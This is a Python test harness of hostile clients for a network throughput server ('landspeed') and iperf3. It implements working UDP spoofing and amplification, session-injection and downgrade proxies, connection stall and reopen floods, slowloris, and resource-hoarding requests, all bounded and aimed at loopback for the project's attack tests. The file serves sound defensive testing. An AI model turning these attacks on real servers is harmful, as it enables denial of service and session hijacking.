#!/usr/bin/env python3
"""Small hostile clients for a public throughput server: each speaks just enough of one protocol
(landspeed's, iperf3's, ndt7's) to attack, and prints one JSON object with what it saw.

They share no code with landspeed: the wire formats are written here from docs/protocol.md and
iperf3's protocol, so a landspeed bug cannot hide itself in its own encoder. Every loop is bounded in
time and count, and every address is on loopback (127.0.0.0/8). Used by the attack tests
(crates/cli/tests/it/attacks.rs) and by bench/attacks/run, which runs each against `landspeed serve`
and against iperf3 3.21's `iperf3 -s`.

  hostile.py udp-spoof --port P --proto landspeed|iperf3 [--victim 127.0.0.2] [--rate 100M] [--time 3]
  hostile.py udp-nat --port P [--victim 127.0.0.2]      (a NAT'd client that answers the challenge)
  hostile.py downgrade-proxy --port P --listen L --hold S
  hostile.py inject-proxy --port P --listen L --hold S [--keyed | --stall-tls]
  hostile.py stall-flood --port P --source 127.0.0.3 --count 1000 --hold S [--ndt7]
  hostile.py random-sessions --port P --count 10000
  hostile.py worst-request --port P [--streams N --length BYTES]
  hostile.py reopen-flood --port P --net 127.0.2 --addresses 64 --per 8 --hold S [--ndt7 | --iperf3]
                                  (silent greetings from a whole /26, reopened as the server closes them)
  hostile.py ndt7-text --port P [--size 16M] [--time 8]   (an upload of huge text messages)
  hostile.py slowloris --port P --sources A,B --count N [--every 1.5] [--hold 45]
  hostile.py rpm-large --port P --count N [--read] [--hold S] [--sources A,B]
                                  (GET /large, read or never read)
"""

import argparse
import json
import os
import select
import socket
import struct
import sys
import threading
import time

MAGIC = b"LSPD"
VERSION = 1


def frame(obj):
    body = json.dumps(obj).encode()
    return struct.pack(">I", len(body)) + body


def control_preamble():
    return MAGIC + struct.pack(">H", VERSION) + b"C\0"


def data_preamble(session_hex, stream):
    return MAGIC + struct.pack(">H", VERSION) + b"D\0" + bytes.fromhex(session_hex) + struct.pack(">I", stream)


def hello_msg(auth=None):
    m = {"type": "hello", "version": VERSION, "software": "hostile"}
    if auth:
        m["auth"] = auth
    return m


def spec(transport="tcp", direction="forward", seconds=3.0, streams=1, rate=None, length=1448):
    s = {"streams": streams, "length_bytes": length, "end": {"time": float(seconds)}, "omit_s": 0.0,
         "direction": direction, "window_bytes": None, "congestion": None, "mss": None,
         "nodelay": False, "fq_rate_bps": None, "interval_s": 1.0, "server_threads": None,
         "server_cpus": None, "verify": True, "payload_key": 7, "rx": "copy", "tx": "copy",
         "io": "epoll", "queue_depth": 1, "transport": transport, "rate_bps": rate, "burst": 16}
    return s


class Frames:
    """Reads length-prefixed JSON frames from a socket, within a deadline."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def read(self, timeout=5.0):
        end = time.monotonic() + timeout
        while True:
            if len(self.buf) >= 4:
                n = struct.unpack(">I", self.buf[:4])[0]
                if n > 8 << 20:
                    raise ValueError("frame too long")
                if len(self.buf) >= 4 + n:
                    body, self.buf = self.buf[4:4 + n], self.buf[4 + n:]
                    return json.loads(body)
            left = end - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, OSError):
                return None
            if not chunk:
                return None
            self.buf += chunk


def connect(port, source="127.0.0.1", host="127.0.0.1", timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect((host, port))
    return s


def recv_some(s, n=4096):
    """What the socket has (b"" once closed or reset)."""
    try:
        return s.recv(n)
    except OSError:
        return b""


def rate_bps(text):
    mult = {"k": 1e3, "K": 1e3, "m": 1e6, "M": 1e6, "g": 1e9, "G": 1e9}
    return float(text[:-1]) * mult[text[-1]] if text[-1] in mult else float(text)


def count_at(sock, seconds):
    """Bytes and datagrams that arrive at `sock` within `seconds`."""
    total = datagrams = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        r, _, _ = select.select([sock], [], [], max(0.0, min(0.2, end - time.monotonic())))
        if not r:
            continue
        try:
            data = sock.recv(65536)
        except OSError:
            continue
        total += len(data)
        datagrams += 1
    return total, datagrams


def reverse_udp_test(a):
    """A control connection from 127.0.0.1 that asked for a reverse UDP test at --rate for --time:
    (the connection, its session id), or (None, why not)."""
    ctl = connect(a.port)
    ctl.sendall(control_preamble() + frame(hello_msg()))
    fr = Frames(ctl)
    welcome = fr.read()
    if not welcome or welcome.get("type") != "welcome":
        return None, "no welcome: %r" % (welcome,)
    ctl.sendall(frame({"type": "test_request",
                       "spec": spec("udp", "reverse", a.time, rate=rate_bps(a.rate))}))
    acc = fr.read()
    if not acc or acc.get("type") != "accepted":
        return None, "not accepted: %r" % (acc,)
    return ctl, acc["session"]


def spoof_hellos(victim, hello, port):
    """Three hellos from the victim's address, 200 ms apart: the bytes the victim sent."""
    for _ in range(3):
        victim.sendto(hello, ("127.0.0.1", port))
        time.sleep(0.2)
    return 3 * len(hello)


def udp_spoof_landspeed(a, victim):
    """Control from 127.0.0.1 asks for a reverse UDP test; the stream's hello comes from `victim`."""
    ctl, session = reverse_udp_test(a)
    if ctl is None:
        return {"error": session}
    hello = data_preamble(session, 0)
    sent = spoof_hellos(victim, hello, a.port)
    got, datagrams = count_at(victim, a.time + 2.0)
    ctl.close()
    return {"sent_from_victim": sent, "received_at_victim": got, "datagrams_at_victim": datagrams}


def udp_spoof_iperf3(a, victim):
    """iperf3's conversation from 127.0.0.1 up to CREATE_STREAMS; its UDP hello from `victim`."""
    ctl = connect(a.port)
    cookie = b"hostilehostilehostilehostilehostile2\0"
    ctl.sendall(cookie)
    state = ctl.recv(1)
    if state != b"\x09":
        return {"error": "no PARAM_EXCHANGE: %r" % (state,)}
    params = json.dumps({"udp": True, "omit": 0, "time": a.time, "num": 0, "blockcount": 0,
                         "parallel": 1, "reverse": True, "len": 1460,
                         "bandwidth": int(rate_bps(a.rate)), "pacing_timer": 1000,
                         "client_version": "3.21"}).encode()
    ctl.sendall(struct.pack(">I", len(params)) + params)
    state = ctl.recv(1)
    if state != b"\x0a":
        return {"error": "no CREATE_STREAMS: %r" % (state,), "server_said": state.hex()}
    hello = b"9876"
    sent = spoof_hellos(victim, hello, a.port)
    got, datagrams = count_at(victim, a.time + 1.0)
    # iperf3's server sends until the client's TEST_END: say it, so the attack stops here.
    try:
        ctl.sendall(b"\x04")
    except OSError:
        pass
    more, more_d = count_at(victim, 1.0)
    ctl.close()
    return {"sent_from_victim": sent, "received_at_victim": got + more,
            "datagrams_at_victim": datagrams + more_d}


def udp_nat(a):
    """Not an attack: a client behind a NAT that maps its UDP to another address than its TCP. Its
    control connection is from 127.0.0.1, its UDP from --victim; it answers the server's challenge by
    echoing the token, and counts the test data that then arrives."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((a.victim, 0))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sock.settimeout(0.3)
    ctl, session = reverse_udp_test(a)
    if ctl is None:
        return {"error": session}
    hello = data_preamble(session, 0)
    token, acked = None, False
    end = time.monotonic() + 5.0
    while time.monotonic() < end and not acked:
        sock.sendto(hello + (token or b""), ("127.0.0.1", a.port))
        try:
            data = sock.recv(2048)
        except socket.timeout:
            continue
        if data == hello:
            acked = True
        elif len(data) == 44 and data[:4] == MAGIC and data[6:7] == b"T" and data[8:28] == hello[8:28]:
            token = data[28:44]
    if not acked:
        return {"attack": "udp-nat", "challenged": token is not None, "acknowledged": False}
    ctl.sendall(frame({"type": "start"}))
    got, datagrams = count_at(sock, a.time + 1.0)
    ctl.close()
    return {"attack": "udp-nat", "challenged": token is not None, "acknowledged": True,
            "received": got, "datagrams": datagrams}


def udp_spoof(a):
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind((a.victim, 0))
    victim.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    out = (udp_spoof_landspeed if a.proto == "landspeed" else udp_spoof_iperf3)(a, victim)
    out["attack"] = "udp-spoof"
    out["proto"] = a.proto
    if "received_at_victim" in out:
        out["amplification"] = out["received_at_victim"] / max(1, out["sent_from_victim"])
    return out


def closed_within(s, seconds):
    """Whether the server closed `s` within `seconds`, and after how long (None: still open). What
    the server sent meanwhile is read and dropped: a stream it took as the test's gets data."""
    start = time.monotonic()
    end = start + seconds
    while time.monotonic() < end:
        s.settimeout(max(0.01, end - time.monotonic()))
        try:
            data = s.recv(65536)
        except socket.timeout:
            break
        except OSError:
            return True, round(time.monotonic() - start, 3)
        if not data:
            return True, round(time.monotonic() - start, 3)
    return False, None


def pipe(src, dst, rewrite_first=None, sniff=None, stop=None):
    """Copies src to dst until either closes or `stop` is set; may rewrite the first byte or look at
    the bytes (sniff) as they pass."""
    first = True
    src.settimeout(0.2)
    while not (stop and stop.is_set()):
        try:
            data = src.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        if first and rewrite_first is not None:
            data = bytes([rewrite_first]) + data[1:]
        first = False
        if sniff:
            sniff(data)
        try:
            dst.sendall(data)
        except OSError:
            break
    for s in (src, dst):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def serve_proxy(a, on_connection):
    """Accepts on --listen for --hold seconds, handing each connection to on_connection."""
    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind(("127.0.0.1", a.listen))
    lst.listen(64)
    print(json.dumps({"listening": lst.getsockname()[1]}), flush=True)
    end = time.monotonic() + a.hold
    stop = threading.Event()
    while time.monotonic() < end:
        lst.settimeout(max(0.05, min(0.5, end - time.monotonic())))
        try:
            c, _ = lst.accept()
        except socket.timeout:
            continue
        threading.Thread(target=on_connection, args=(c, stop), daemon=True).start()
    stop.set()


def downgrade_proxy(a):
    """A proxy that changes the server's first byte to iperf3's PARAM_EXCHANGE (9)."""
    seen = {"connections": 0}

    def on(c, stop):
        seen["connections"] += 1
        s = connect(a.port)
        threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
        pipe(s, c, rewrite_first=9, stop=stop)

    serve_proxy(a, on)
    return {"attack": "downgrade-proxy", **seen}


def inject_proxy(a):
    """An observer in the path: forwards every connection, reads the session id in `accepted`, and
    injects data streams quoting it. Keyless (default): stream 0 from another address (127.0.0.2),
    and, right after the client's own stream 0 connects, a duplicate of it from the proxy's own
    address. --keyed (the conversation is sealed, not encrypted: the id is still readable): from the
    client's own address, stream 0 without a MAC and with a forged one; then an exact copy of the
    client's own stream-0 preamble, MAC and all, from 127.0.0.2. --stall-tls: stream 0 from the
    client's address as soon as the test is accepted, which then never starts its TLS handshake."""
    report = {"attack": "inject-proxy", "session": None, "injected": []}
    lock = threading.Lock()
    wait = a.hold if a.stall_tls else 3.0

    def inject(session, source, what, preamble=None):
        try:
            s = connect(a.port, source=source)
            s.sendall(preamble or data_preamble(session, 0))
            closed, after = closed_within(s, wait)
            with lock:
                report["injected"].append({"what": what, "from": source, "closed_by_server": closed,
                                           "closed_after_s": after})
            s.close()
        except OSError as e:
            with lock:
                report["injected"].append({"what": what, "from": source, "error": str(e)})

    def later(*args):
        threading.Thread(target=inject, args=args, daemon=True).start()

    def on_accepted(session):
        report["session"] = session
        if a.keyed:
            later(session, "127.0.0.1", "stream 0 without a MAC")
            forged = MAGIC + struct.pack(">H", 2) + b"D\0" + bytes.fromhex(session) + struct.pack(">I", 0) \
                + os.urandom(16)
            later(session, "127.0.0.1", "stream 0 with a forged MAC", forged)
        elif a.stall_tls:
            later(session, "127.0.0.1", "stream 0 that never starts its TLS handshake")
        else:
            later(session, "127.0.0.2", "foreign stream 0")

    def sniffer(buf):
        def look(data):
            buf[0] += data
            while len(buf[0]) >= 4:
                n = struct.unpack(">I", buf[0][:4])[0]
                if n > 8 << 20 or len(buf[0]) < 4 + n:
                    return
                body, buf[0] = buf[0][4:4 + n], buf[0][4 + n:]
                # A keyed conversation seals each frame with a 32-byte tag after its JSON: sealed, not
                # encrypted, so an observer reads it all the same.
                m = None
                for candidate in (body, body[:-32]):
                    try:
                        m = json.loads(candidate)
                        break
                    except ValueError:
                        continue
                if isinstance(m, dict) and m.get("type") == "accepted":
                    on_accepted(m["session"])
        return look

    def iperf3_sniffer(cookie):
        def look(data):
            # CREATE_STREAMS (10) from the server: the test takes data connections quoting the cookie.
            if b"\x0a" in data and not report.get("iperf3_injected"):
                report["iperf3_injected"] = True
                report["session"] = cookie.decode(errors="replace").rstrip("\0")
                threading.Thread(target=inject_cookie, args=(cookie,), daemon=True).start()
        return look

    def inject_cookie(cookie):
        try:
            s = connect(a.port, source="127.0.0.2")
            s.sendall(cookie)
            closed, after = closed_within(s, 3.0)
            with lock:
                report["injected"].append({"what": "foreign iperf3 stream", "from": "127.0.0.2",
                                           "closed_by_server": closed, "closed_after_s": after})
            s.close()
        except OSError as e:
            with lock:
                report["injected"].append({"what": "foreign iperf3 stream", "error": str(e)})

    def data_stream(c, s, stop):
        head = c.recv(44, socket.MSG_PEEK)
        stream = struct.unpack(">I", head[24:28])[0] if len(head) >= 28 else None
        if stream:
            # The client's later streams wait, so the injected copies of stream 0 meet a test still
            # collecting its streams.
            time.sleep(0.5)
        threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
        if stream == 0 and report["session"] and not a.stall_tls:
            time.sleep(0.1)
            if a.keyed:
                later(report["session"], "127.0.0.2", "replayed stream 0 (the client's own preamble)",
                      bytes(head))
            else:
                later(report["session"], "127.0.0.1", "duplicate stream 0")
        pipe(s, c, stop=stop)

    def on(c, stop):
        first = c.recv(37, socket.MSG_PEEK)
        s = connect(a.port)
        if first[:1] and (first[:1].isalpha() and first[:1].islower() or first[:1] in b"234567"):
            # iperf3: its control connection starts with the cookie, and so do its data connections.
            if report.get("cookie") is None:
                report["cookie"] = True
                threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
                pipe(s, c, sniff=iperf3_sniffer(first), stop=stop)
                return
            threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
            pipe(s, c, stop=stop)
            return
        if first[6:7] == b"C":
            threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
            pipe(s, c, sniff=sniffer([b""]), stop=stop)
            return
        data_stream(c, s, stop)

    serve_proxy(a, on)
    time.sleep(0.5)
    return report


def stall_flood(a):
    """--count connections from --source, each stalling at a step of the greeting (round robin):
    connect only, half a preamble, a whole preamble, half a hello, a whole hello (then silence), and
    for ndt7 half an HTTP request head. Held for --hold seconds, then closed."""
    held, failed = [], 0
    steps = [b"", control_preamble()[:4], control_preamble(),
             (control_preamble() + frame(hello_msg()))[:20], control_preamble() + frame(hello_msg()),
             control_preamble() + frame(hello_msg({"version": 2, "name": "nobody",
                                                  "client_nonce": "00" * 32}))]
    if a.ndt7:
        steps = [b"", b"GET /ndt/v7/download HTTP/1.1\r\nHost: x\r\n"]
    if a.iperf3:
        steps = [b"", b"hostilehostile", b"hostilehostilehostilehostilehostile2\0"]
    for i in range(a.count):
        try:
            s = connect(a.port, source=a.source, timeout=2.0)
            if steps[i % len(steps)]:
                s.sendall(steps[i % len(steps)])
            held.append(s)
        except OSError:
            failed += 1
    print(json.dumps({"holding": len(held)}), flush=True)
    end = time.monotonic() + a.hold
    closed_early = 0
    while time.monotonic() < end and held:
        r, _, _ = select.select(held, [], [], min(0.5, max(0.0, end - time.monotonic())))
        for s in r:
            data = recv_some(s)
            if not data:
                closed_early += 1
                held.remove(s)
                s.close()
    for s in held:
        s.close()
    return {"attack": "stall-flood", "opened": a.count - failed, "refused_at_connect": failed,
            "closed_by_server_within_hold": closed_early}


def quic_stall(a):
    """--count QUIC connections (ALPN landspeed) from --source that complete the handshake and open no
    stream, held for --hold seconds: how many the server closed, and how soon. Needs Python's aioquic
    (pip install aioquic), as the QUIC interop tests do."""
    import asyncio
    import ssl
    from aioquic.asyncio import connect as qconnect
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.events import ConnectionTerminated

    closed_after = []

    async def one(start):
        cfg = QuicConfiguration(is_client=True, alpn_protocols=["landspeed"])
        cfg.verify_mode = ssl.CERT_NONE
        try:
            async with qconnect("127.0.0.1", a.port, configuration=cfg, local_port=0,
                                wait_connected=True) as client:
                proto = client._quic
                end = start + a.hold
                while asyncio.get_event_loop().time() < end:
                    await asyncio.sleep(0.05)
                    if proto._close_event is not None or proto._state.name in ("CLOSING", "DRAINING", "TERMINATED"):
                        closed_after.append(round(asyncio.get_event_loop().time() - start, 2))
                        return
        except Exception:
            closed_after.append(-1.0)

    async def main():
        start = asyncio.get_event_loop().time()
        await asyncio.gather(*(one(start) for _ in range(a.count)))

    asyncio.run(main())
    refused = sum(1 for t in closed_after if t < 0)
    closed = sorted(t for t in closed_after if t >= 0)
    return {"attack": "quic-stall", "opened": a.count, "failed_handshake": refused,
            "closed_by_server": len(closed), "latest_close_s": closed[-1] if closed else None,
            "earliest_close_s": closed[0] if closed else None}


def random_sessions(a):
    """--count data connections, each quoting a random session id, one after the other."""
    done = 0
    for _ in range(a.count):
        try:
            s = connect(a.port, timeout=2.0)
            s.sendall(data_preamble(os.urandom(16).hex(), 0))
            s.settimeout(2.0)
            try:
                s.recv(1)
            except OSError:
                pass
            s.close()
            done += 1
        except OSError:
            pass
    return {"attack": "random-sessions", "sent": done}


def request_test(port, sp, attack):
    """A keyless landspeed conversation up to the test's acceptance: (control socket, its frames,
    the `accepted` message, None), or (.., .., .., the report of a refusal)."""
    ctl = connect(port)
    ctl.sendall(control_preamble() + frame(hello_msg()))
    fr = Frames(ctl)
    w = fr.read()
    if not w or w.get("type") != "welcome":
        return ctl, fr, None, {"error": "no welcome"}
    ctl.sendall(frame({"type": "test_request", "spec": sp}))
    acc = fr.read()
    if not acc or acc.get("type") != "accepted":
        return ctl, fr, acc, {"attack": attack, "refused": True, "answer": acc}
    return ctl, fr, acc, None


def start_streams(port, test, n):
    """The accepted test's `n` data connections (4 KiB receive buffers: they take little), then its
    start; says it is running (the first line the tests wait for). The connections."""
    ctl, fr, acc = test
    streams = []
    for i in range(n):
        s = connect(port)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(data_preamble(acc["session"], i))
        streams.append(s)
    ready = fr.read()
    ctl.sendall(frame({"type": "start"}))
    print(json.dumps({"running": True, "ready": ready and ready.get("type")}), flush=True)
    return streams


def worst_request(a):
    """The largest test the server's defaults allow: many streams, the largest write, reverse (the
    server sends, so it holds a payload buffer per stream), connected and held while the server's
    memory is read."""
    sp = spec("tcp", "reverse", a.time, streams=a.streams, length=a.length)
    if a.threads:
        sp["server_threads"] = a.threads
    ctl, fr, acc, refused = request_test(a.port, sp, "worst-request")
    if refused:
        return refused
    streams = start_streams(a.port, (ctl, fr, acc), a.streams)
    time.sleep(a.time)
    for s in streams:
        s.close()
    ctl.close()
    return {"attack": "worst-request", "refused": False, "streams": a.streams}


def rr_hoard(a):
    """A request/response test (landspeed's --rr) asking the most the server may send for the
    least: --streams connections, 1-byte requests each answered with --response bytes, --in-flight
    of them; every request written as fast as the sockets take them, no response ever read (a
    4 KiB receive buffer), for --time seconds."""
    sp = spec("tcp", "forward", a.time, streams=a.streams)
    sp["transactions"] = {"request_bytes": 1, "response_bytes": a.response, "in_flight": a.in_flight}
    ctl, fr, acc, refused = request_test(a.port, sp, "rr-hoard")
    if refused:
        return refused
    streams = start_streams(a.port, (ctl, fr, acc), a.streams)
    for s in streams:
        s.setblocking(False)
    sent, end = 0, time.monotonic() + a.time
    while time.monotonic() < end:
        _, writable, _ = select.select([], streams, [], 0.1)
        for s in writable:
            try:
                sent += s.send(b"x" * 4096)
            except OSError:
                pass
    for s in streams:
        s.close()
    ctl.close()
    return {"attack": "rr-hoard", "refused": False, "streams": a.streams, "request_bytes_sent": sent}


def reopen_flood(a):
    """--addresses source addresses of --net (127.0.2.1, .2, ...), each keeping --per connections
    that send a complete control greeting (or, with --ndt7, half a request head) and then nothing;
    every connection the server closes is opened again at once, until --hold seconds pass. With
    --iperf3 the greeting is a whole iperf3 cookie (then silence, as before its parameters)."""
    greeting = b"GET /ndt/v7/download HTTP/1.1\r\nHost: x\r\n" if a.ndt7 else control_preamble()
    if a.iperf3:
        greeting = b"hostilehostilehostilehostilehostile2\0"
    sources = ["%s.%d" % (a.net, i + 1) for i in range(a.addresses)]
    held, opened, refused = {}, 0, 0

    def open_one(src):
        nonlocal opened, refused
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((src, 0))
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", a.port))
            except BlockingIOError:
                pass
            held[s] = src
            opened += 1
        except OSError:
            refused += 1

    for src in sources:
        for _ in range(a.per):
            open_one(src)
    print(json.dumps({"holding": len(held)}), flush=True)
    pending = {s: True for s in held}
    end = time.monotonic() + a.hold
    closed = 0
    while time.monotonic() < end:
        socks = list(held)
        w = [s for s in socks if pending.get(s)]
        r, wr, _ = select.select(socks, w, [], 0.05)
        for s in wr:
            try:
                s.send(greeting)
            except OSError:
                pass
            pending[s] = False
        for s in r:
            data = recv_some(s)
            if not data:
                src = held.pop(s)
                pending.pop(s, None)
                s.close()
                closed += 1
                open_one(src)
                for n in held:
                    pending.setdefault(n, True)
    for s in held:
        s.close()
    return {"attack": "reopen-flood", "addresses": a.addresses, "opened": opened,
            "closed_by_server": closed, "refused_at_connect": refused}


def ws_handshake(s, path):
    s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Protocol: net.measurementlab.ndt.v7\r\n\r\n" % path).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(4096)
        if not c:
            break
        head += c
    return head.split(b"\r\n")[0].decode(errors="replace")


def masked_frame(opcode, payload, fin=True):
    """A client frame, masked with a zero key (the XOR changes nothing, the mask bit is set)."""
    n = len(payload)
    b0 = (0x80 if fin else 0) | opcode
    if n < 126:
        head = struct.pack(">BB", b0, 0x80 | n)
    elif n < 65536:
        head = struct.pack(">BBH", b0, 0x80 | 126, n)
    else:
        head = struct.pack(">BBQ", b0, 0x80 | 127, n)
    return head + b"\0\0\0\0" + payload


def ndt7_text(a):
    """An ndt7 upload of --size text messages, each valid Measurement JSON, one frame each, sent
    as fast as the server takes them for --time seconds (each frame written whole, so the count is
    of bytes the server's socket took)."""
    size = int(rate_bps(a.size))
    body = b'{"Origin":"' + b"a" * max(0, size - 14) + b'"}'
    msg = masked_frame(1, body)
    s = connect(a.port, timeout=5.0)
    status = ws_handshake(s, "/ndt/v7/upload")
    print(json.dumps({"status": status}), flush=True)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sent, end = 0, time.monotonic() + a.time
    closed = False
    s.settimeout(0.5)
    while time.monotonic() < end:
        try:
            sent += s.send(msg)
        except socket.timeout:
            continue
        except OSError:
            closed = True
            break
    s.close()
    return {"attack": "ndt7-text", "status": status, "sent_bytes": sent, "closed_by_server": closed}


def slowloris(a):
    """--count connections from --sources (round robin), each an unfinished HTTP request head, then
    one byte every --every seconds; the time the server took to close each."""
    sources = a.sources.split(",")
    opened, closed_at, held = 0, [], {}
    start = time.monotonic()
    for i in range(a.count):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((sources[i % len(sources)], 0))
            s.settimeout(2.0)
            s.connect(("127.0.0.1", a.port))
            s.sendall(b"GET /large HTTP/1.1\r\nHost: x\r\n")
            held[s] = time.monotonic()
            opened += 1
        except OSError:
            pass
    print(json.dumps({"holding": len(held)}), flush=True)
    end = start + a.hold
    next_byte = time.monotonic() + a.every
    poller, by_fd = select.poll(), {s.fileno(): s for s in held}
    for s in held:
        poller.register(s, select.POLLIN)
    while held and time.monotonic() < end:
        r = [by_fd[fd] for fd, _ in poller.poll(100) if by_fd.get(fd) in held]
        for s in r:
            poller.unregister(s)
            data = recv_some(s)
            if not data:
                closed_at.append(time.monotonic() - held.pop(s))
                s.close()
        if time.monotonic() >= next_byte:
            for s in list(held):
                try:
                    s.send(b"X")
                except OSError:
                    closed_at.append(time.monotonic() - held.pop(s))
                    poller.unregister(s)
                    s.close()
            next_byte += a.every
    still = len(held)
    for s in held:
        s.close()
    closed_at.sort()
    return {"attack": "slowloris", "opened": opened, "closed_by_server": len(closed_at),
            "still_open_at_end": still,
            "max_close_s": round(closed_at[-1], 2) if closed_at else None,
            "median_close_s": round(closed_at[len(closed_at) // 2], 2) if closed_at else None}


def rpm_large(a):
    """--count HTTP/1.1 GET /large: with --read, read each to its end (bytes counted); without,
    never read a byte after the request, for --hold seconds."""
    socks, sources = [], a.sources.split(",")
    for i in range(a.count):
        try:
            s = connect(a.port, source=sources[i % len(sources)], timeout=2.0)
            s.sendall(b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
            socks.append(s)
        except OSError:
            pass
    print(json.dumps({"holding": len(socks)}), flush=True)
    got, end = 0, time.monotonic() + a.hold
    if a.read:
        open_ = list(socks)
        while open_ and time.monotonic() < end:
            r, _, _ = select.select(open_, [], [], 0.2)
            for s in r:
                try:
                    d = s.recv(1 << 20)
                except OSError:
                    d = b""
                if not d:
                    open_.remove(s)
                got += len(d)
    else:
        time.sleep(a.hold)
    for s in socks:
        s.close()
    return {"attack": "rpm-large", "connections": len(socks), "received_bytes": got}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("udp-spoof", "udp-nat"):
        u = sub.add_parser(name)
        u.add_argument("--port", type=int, required=True)
        u.add_argument("--proto", choices=["landspeed", "iperf3"], default="landspeed")
        u.add_argument("--victim", default="127.0.0.2")
        u.add_argument("--rate", default="100M")
        u.add_argument("--time", type=float, default=3.0)
    for name in ("downgrade-proxy", "inject-proxy"):
        d = sub.add_parser(name)
        d.add_argument("--port", type=int, required=True)
        d.add_argument("--listen", type=int, default=0)
        d.add_argument("--hold", type=float, default=10.0)
        if name == "inject-proxy":
            d.add_argument("--keyed", action="store_true")
            d.add_argument("--stall-tls", action="store_true")
    f = sub.add_parser("stall-flood")
    f.add_argument("--port", type=int, required=True)
    f.add_argument("--source", default="127.0.0.3")
    f.add_argument("--count", type=int, default=1000)
    f.add_argument("--hold", type=float, default=5.0)
    f.add_argument("--ndt7", action="store_true")
    f.add_argument("--iperf3", action="store_true")
    q = sub.add_parser("quic-stall")
    q.add_argument("--port", type=int, required=True)
    q.add_argument("--count", type=int, default=20)
    q.add_argument("--hold", type=float, default=6.0)
    r = sub.add_parser("random-sessions")
    r.add_argument("--port", type=int, required=True)
    r.add_argument("--count", type=int, default=10000)
    w = sub.add_parser("worst-request")
    w.add_argument("--port", type=int, required=True)
    w.add_argument("--streams", type=int, default=128)
    w.add_argument("--length", type=int, default=64 << 20)
    w.add_argument("--time", type=float, default=3.0)
    w.add_argument("--threads", type=int, default=0)
    h = sub.add_parser("rr-hoard")
    h.add_argument("--port", type=int, required=True)
    h.add_argument("--streams", type=int, default=32)
    h.add_argument("--response", type=int, default=1 << 20)
    h.add_argument("--in-flight", type=int, default=1024)
    h.add_argument("--time", type=float, default=6.0)
    f = sub.add_parser("reopen-flood")
    f.add_argument("--port", type=int, required=True)
    f.add_argument("--net", default="127.0.2")
    f.add_argument("--addresses", type=int, default=64)
    f.add_argument("--per", type=int, default=8)
    f.add_argument("--hold", type=float, default=10.0)
    f.add_argument("--ndt7", action="store_true")
    f.add_argument("--iperf3", action="store_true")
    t = sub.add_parser("ndt7-text")
    t.add_argument("--port", type=int, required=True)
    t.add_argument("--size", default="16M")
    t.add_argument("--time", type=float, default=8.0)
    sl = sub.add_parser("slowloris")
    sl.add_argument("--port", type=int, required=True)
    sl.add_argument("--sources", default="127.0.4.1,127.0.4.2,127.0.4.3,127.0.4.4")
    sl.add_argument("--count", type=int, default=1024)
    sl.add_argument("--every", type=float, default=1.5)
    sl.add_argument("--hold", type=float, default=45.0)
    rl = sub.add_parser("rpm-large")
    rl.add_argument("--port", type=int, required=True)
    rl.add_argument("--count", type=int, default=3)
    rl.add_argument("--read", action="store_true")
    rl.add_argument("--sources", default="127.0.0.1")
    rl.add_argument("--hold", type=float, default=10.0)
    a = p.parse_args()
    fn = {"udp-spoof": udp_spoof, "udp-nat": udp_nat, "downgrade-proxy": downgrade_proxy, "inject-proxy": inject_proxy,
          "stall-flood": stall_flood, "random-sessions": random_sessions,
          "worst-request": worst_request, "quic-stall": quic_stall, "reopen-flood": reopen_flood,
          "ndt7-text": ndt7_text, "slowloris": slowloris, "rpm-large": rpm_large, "rr-hoard": rr_hoard}[a.cmd]
    print(json.dumps(fn(a)), flush=True)


if __name__ == "__main__":
    sys.exit(main())
